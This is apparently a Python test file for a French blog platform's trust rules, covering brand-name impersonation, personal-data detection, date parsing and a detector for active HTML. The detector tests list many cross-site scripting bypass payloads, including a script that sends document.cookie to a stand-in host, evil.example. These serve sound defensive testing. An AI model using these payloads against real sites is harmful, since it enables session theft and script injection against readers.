"""Trust rules as pure functions: names as readers see them, personal data, dates, active HTML."""

from __future__ import annotations

import datetime as dt
from zoneinfo import ZoneInfo

import pytest

from blogcore import personal
from blogcore.isodate import DateError, parse_iso
from blogcore import names
from blogcore.names import identity_key
from community import identity, store
from community.model import Contribution
from editorial import active

TZ = ZoneInfo("Europe/Paris")
BRAND = ("Marques & communautés", "L'équipe éditoriale de Marques & communautés", "La rédaction")


@pytest.mark.parametrize("name", [
    "La rédaction",
    "La re\u0301daction",            # a decomposed accent: looks identical
    "La redaction",                   # no accent
    "La r\u200bédaction",             # a zero-width space
    "La\u00adrédaction".replace("\u00ad", "\u00ad "),  # a soft hyphen before the space
    "Ｌａ ｒéｄａｃｔｉｏｎ",             # fullwidth letters
    "La  rédaction",                  # a double space
    "La rédaction.",                  # a trailing dot
    "« La Rédaction »",               # quotes around, capitals
    "Lа rédaction",                   # a Cyrillic а
    "La-Rédaction",                   # same page address as the brand
])
def test_every_disguise_of_the_brand_name_is_the_brand(name):
    assert identity.Names.of(BRAND).is_brand(name)


@pytest.mark.parametrize("name", ["Rédaction Martin", "La Réaction", "Marc", "Anne Rédac"])
def test_other_names_are_not_the_brand(name):
    assert not identity.Names.of(BRAND).is_brand(name)


def test_identity_keys_fold_what_readers_cannot_see():
    assert identity_key("Ｚｏé\u200d") == identity_key("zoe") == identity_key("ZOÉ.")
    assert identity_key("Zoé") != identity_key("Chloé")
    assert identity_key("🎉🔥") == ""


def test_official_replies_only_from_the_brand_and_its_team():
    names = identity.Names.of(BRAND, ("Claire Durand",))
    assert names.may_sign_officially("La rédaction") and names.may_sign_officially("Claire  Durand")
    assert not names.may_sign_officially("Troll") and not names.may_sign_officially("Claire Dupont")


def contribution(ident: str, author: str = "Anne", **fields) -> Contribution:
    values = dict(id=ident, article="un-article", author=author, date=dt.datetime(2021, 1, 1, 10, tzinfo=TZ),
                  body="Texte.", status="approved", source="Forum")
    values.update(fields)
    return Contribution(**values)


def problems(*items, official=()):
    return [str(p) for p in store.check_collection(list(items), {"un-article"}, BRAND, official)]


def test_a_reader_signed_like_the_brand_is_refused_naming_the_field():
    found = problems(contribution("c-1", "La re\u0301daction"))
    assert len(found) == 1 and "Author: = 'La re\u0301daction'" in found[0] and "Official: yes" in found[0]


def test_an_official_reply_by_someone_outside_the_team_is_refused():
    found = problems(contribution("c-1", "Troll", official=True))
    assert len(found) == 1 and "Official: = 'yes'" in found[0] and "official_authors" in found[0]
    assert problems(contribution("c-1", "Claire Durand", official=True), official=("Claire Durand",)) == []


def test_look_alike_readers_never_share_a_page():
    first = contribution("c-1", "Jean Dupont")
    look_alike = contribution("c-2", "Jеan Dupont", date=dt.datetime(2021, 2, 1, tzinfo=TZ))  # Cyrillic е
    same_address = contribution("c-3", "Jean-Dupont", date=dt.datetime(2021, 3, 1, tzinfo=TZ))
    found = problems(first, look_alike, same_address)
    assert len(found) == 2
    assert "c-2" in found[0] and "ressemble à « Jean Dupont »" in found[0]
    assert "c-3" in found[1] and "contributeur/jean-dupont/" in found[1]
    # The same person writing twice, the same way, is one page; pending contributions have no page.
    assert problems(first, contribution("c-4", "Jean Dupont"), contribution("c-5", "JEAN dupont", status="pending")) == []


def test_names_without_letters_get_distinct_pages():
    assert identity.slug("🎉") != identity.slug("🔥") and identity.slug("🎉").startswith("contributeur-")


@pytest.mark.parametrize("field, value", [
    ("author", "Anne anne.secret＠example.fr"),
    ("source", "e-mail de anne.secret@example.fr"),
    ("source", 'courrier de "anne secret"@example.fr'),
    ("source", "anne@[192.0.2.1]"),
    ("reason", "doublon, voir anne@example.fr"),
    ("author_url", "https://example.org/?contact=anne@example.fr"),
    ("source", "appel au 06 12 34 56 78"),
    ("author", "Anne +33 6 12 34 56 78"),
])
def test_personal_data_in_a_published_field_fails_naming_file_and_field(field, value):
    text = store.dump_contribution(contribution("c-1", **{"author": "Anne", field: value}))
    parsed, found = store.parse_contribution(text, "content/contributions/un-article/c-1.md", TZ)
    assert parsed is None and len(found) == 1
    assert found[0].file.endswith("c-1.md") and found[0].field == field.capitalize() + ":"
    assert "donnée personnelle" in found[0].message


def test_a_body_over_the_limit_fails_naming_the_file():
    text = store.dump_contribution(contribution("c-1", "Anne", body="x" * 20_001))
    _, found = store.parse_contribution(text, "c-1.md", TZ)
    assert [(p.file, p.field, p.value) for p in found] == [("c-1.md", "Body:", "20001 caractères")]
    assert "max_body_chars" in found[0].fix
    assert store.parse_contribution(text, "c-1.md", TZ, max_body=30_000)[1] == []


@pytest.mark.parametrize("value, words", [
    ("0001-01-01 00:00+01:00", "hors des limites"),
    ("9999-12-31 23:30-05:00", "hors des limites"),
    ("2026-03-29 02:30:00", "n'existe pas"),
])
def test_dates_feeds_cannot_write_are_refused_with_a_fix(value, words):
    with pytest.raises(DateError) as error:
        parse_iso(value, TZ)
    assert words in str(error.value) and error.value.fix


def test_a_contribution_date_needs_its_offset():
    text = store.dump_contribution(contribution("c-1", "Anne")).replace("2021-01-01 10:00:00+01:00",
                                                                        "2021-01-01 10:00:00")
    _, found = store.parse_contribution(text, "c-1.md", TZ)
    assert [(p.field, p.value) for p in found] == [("Date:", "2021-01-01 10:00:00")] and "décalage" in found[0].fix


def test_the_autumn_hour_and_explicit_offsets_are_fine():
    assert parse_iso("2026-10-25 02:30:00", TZ).utcoffset() == dt.timedelta(hours=2)
    assert parse_iso("2026-03-29 02:30:00+01:00", TZ)


@pytest.mark.parametrize("html, found", [
    ("<p>Texte</p><script>fetch('https://evil.example/?'+document.cookie)</script>", ["<script>"]),
    ('<p><img src="/x.png" onerror="alert(1)"></p>', ["onerror="]),
    ('<p><a href="javascript:alert(1)">x</a></p>', ["javascript:"]),
    ("<iframe src=\"https://video.example/\"></iframe><object data=x></object>", ["<iframe>", "<object>"]),
    ("<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>", []),
    ("<p>Le mot onload=1 dans un texte.</p>", []),
    # As a browser reads them (issue 25, point 7):
    ('<p><img alt=">" onload="alert(1)" src="/x.png"></p>', ["onload="]),        # a ">" in an earlier attribute
    ("<img alt='>' src=/x.png onerror=alert(1)>", ["onerror="]),
    ('<!-- --!><img src=/x.png onerror=alert(1)> -->', ["onerror="]),             # a comment closed by "--!>"
    ('<!--><img src=/x.png onerror=alert(1)>', ["onerror="]),                     # an empty comment
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', ["onerror="]),
    ('<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>', ["onerror="]),
    ('<p>x</p><body onload="alert(1)">', ["onload="]),                           # merged into the page's <body>
    ('<a href="&#106;ava&#x09;script:alert(1)">x</a>', ["javascript:"]),
    ('<a href=" JaVaScRiPt:alert(1)">x</a>', ["javascript:"]),
    ('<svg><a><animate attributeName="href" values="/ok;javascript:alert(1)"/><text>x</text></a></svg>',
     ["javascript: (<animate attributeName=href>)"]),
    ('<svg><a><set attributeName="xlink:href" to="javascript:alert(1)"/><text>x</text></a></svg>',
     ["javascript: (<set attributeName=xlink:href>)"]),
    ('<svg><set attributeName="onmouseover" to="alert(1)"/></svg>', ["<set attributeName=onmouseover>"]),
    ('<svg><script href="data:text/javascript,alert(1)"/></svg>', ["<script>", "data: document"]),
    ('<math><mi href="javascript:alert(1)">x</mi></math>', ["javascript:"]),
    ('<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>', ["data: document"]),
    ('<form><button formaction="javascript:alert(1)">x</button></form>', ["javascript:"]),
    ("<style>li{list-style:url('javascript:alert(1)')}</style>", ["javascript: (CSS url())"]),
    ('<img src="data:image/png;base64,iVBORw0KGgo=" alt="">', []),             # an image is never run
    ('<p title="onload=alert(1)">javascript:alert(1)</p>', []),                  # text and titles are not code
])
def test_active_html_is_found_in_rendered_articles(html, found):
    assert active.find(html) == found


def test_personal_data_finder_leaves_ordinary_text_alone():
    assert personal.find("Le 25 février 2009, 1 200 000 visiteurs, https://example.org/2009/02/25/x") == []


# --- issue 26: names a reader cannot see, and the brand's names in other spellings ---

TEAM = ("L'équipe éditoriale",)


@pytest.mark.parametrize("name", [
    "Marques et communautés", "La_rédaction", "La.rédaction", "Marques & communautes officiel",
    "L'équipe éditoriale", "L’équipe Éditoriale", "LaRédaction", "Compte officiel Marques & Communautés",
    "Le vrai La Rédaction", "Marques+communautés team",
])
def test_separators_and_et_and_decorations_fold_to_the_brand_and_its_team(name):
    assert identity.Names.of(BRAND, TEAM).is_brand(name)


@pytest.mark.parametrize("name", ["Emmanuel", "Yann Gourvennec", "Marques", "Rédaction Martin", "Officiel",
                                  "Team Marc", "Équipe de foot"])
def test_folding_leaves_other_names_alone(name):
    assert not identity.Names.of(BRAND, TEAM).is_brand(name)


def test_a_team_name_is_refused_for_a_reader_and_allowed_for_an_official_reply():
    found = problems(contribution("c-1", "L'equipe editoriale"), official=TEAM)
    assert len(found) == 1 and "celui de la marque" in found[0]
    assert problems(contribution("c-1", "L'équipe éditoriale", official=True), official=TEAM) == []


@pytest.mark.parametrize("name, words", [
    ("\u200b\u200b", "U+200B"),
    ("\u2060\u200d", "U+2060"),
    ("\x07Bip", "U+0007"),
    ("Rouge\x1b[31m", "U+001B"),
    ("Anne\u202eenna", "U+202E"),  # a right-to-left override turns what follows around
    ("\u200dAnne", "U+200D"),  # a joiner with nothing to join
    ("🎉", "no visible letter"),
    ("...", "no visible letter"),
])
def test_a_name_needs_visible_letters_and_no_control_or_format_character(name, words):
    assert words in names.name_problem(name)
    text = store.dump_contribution(contribution("c-1", name))
    parsed, found = store.parse_contribution(text, "content/contributions/un-article/c-1.md", TZ)
    assert parsed is None and [(p.field, p.value) for p in found] == [("Author:", name)]
    assert "lettres visibles" in found[0].fix


@pytest.mark.parametrize("name", ["Zoé", "ناصر\u200cعلی", "👩\u200d💻 Ada", "R2D2", "42", "Anne-Marie O’Brien"])
def test_names_of_every_language_pass(name):
    assert names.name_problem(name) is None


@pytest.mark.parametrize("url", ["https://exemple.fr/a b", "http://[zz]/", "http://exemple.fr:99999/",
                                 "http://a..b/", "https://exemple.fr\\@evil.example/"])
def test_an_address_in_a_file_is_read_as_a_browser_reads_it(url):
    text = store.dump_contribution(contribution("c-1", "Anne", author_url=url.replace(" ", "%SPACE%")))
    text = text.replace("%SPACE%", " ")
    parsed, found = store.parse_contribution(text, "c-1.md", TZ)
    assert parsed is None and [p.field for p in found] == ["Author_url:"] and "navigateur" in found[0].message
